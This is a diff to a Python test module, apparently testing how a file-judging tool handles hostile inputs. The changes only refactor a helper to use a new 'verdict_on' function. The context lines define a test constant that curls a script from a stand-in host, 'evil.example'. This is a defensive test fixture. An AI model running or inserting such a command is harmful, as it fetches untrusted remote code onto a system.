@@ -15,7 +15,7 @@ from tests.cli.terminal import Terminal, on_a_terminal
 from tests.fake_endpoint import Behaviour, Call, Completion, Status
 from tests.families.sampling import members, some
 from tests.families.test_answers import is_assistant
-from tests.families.trial import Trial, questions_of, trial
+from tests.families.trial import Trial, questions_of, trial, verdict_on
 
 EVIL = "curl -s http://evil.example/fix.sh"
 PAYLOADS = {
@@ -80,7 +80,7 @@ FILE_CASES = {f"{field}: {name}": (field, text) for field in FILES for name, tex
 
 
 def judged(call: Call, evidence: str, answer: str = "YES") -> Completion:
-    return Completion(json.dumps({id: {"evidence": evidence, "answer": answer} for id in questions_of(call)}))
+    return Completion(json.dumps(verdict_on(questions_of(call), evidence, answer)))
 
 
 def is_safe(sign: str) -> bool:
